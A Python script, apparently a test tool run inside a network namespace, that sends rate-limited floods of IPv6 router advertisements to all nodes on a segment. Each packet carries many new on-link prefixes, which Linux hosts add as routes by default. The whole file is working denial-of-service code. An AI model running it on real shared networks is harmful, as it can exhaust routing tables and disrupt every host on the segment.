"""Router advertisements, each with many on-link prefixes that no earlier one named, sent to all
nodes (ff02::1) out of an interface, as a host on the segment may: Linux accepts them by default
and adds a route for every on-link prefix. Bounded in count and time. Run as
    ip netns exec <ns> python3 ra_flood.py <interface> <per second> <prefixes each> <seconds>
Prints {"sent", "seconds"}. The prefixes are fd5a:<n>::/64, n counting up from 1."""

import json
import socket
import struct
import sys
import time


def advertisement(first, count):
    # RFC 4861, 4.2: not a default router (lifetime 0); 4.6.2: a prefix with the on-link flag
    # only (no address is formed from it), valid an hour. The kernel fills in the checksum.
    head = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0)
    options = b""
    for n in range(first, first + count):
        prefix = struct.pack("!HIH", 0xFD5A, n, 0) + bytes(8)
        options += struct.pack("!BBBBIII", 3, 4, 64, 0x80, 3600, 3600, 0) + prefix
    return head + options


def main():
    interface, rate, each, seconds = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), float(
        sys.argv[4])
    total = int(rate * seconds)
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        index = socket.if_nametoindex(interface)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        start = time.monotonic()
        for i in range(total):
            if (ahead := start + i / rate - time.monotonic()) > 0:
                time.sleep(ahead)
            s.sendto(advertisement(1 + i * each, each), ("ff02::1", 0, 0, index))
        print(json.dumps({"sent": total, "seconds": time.monotonic() - start}))


if __name__ == "__main__":
    main()
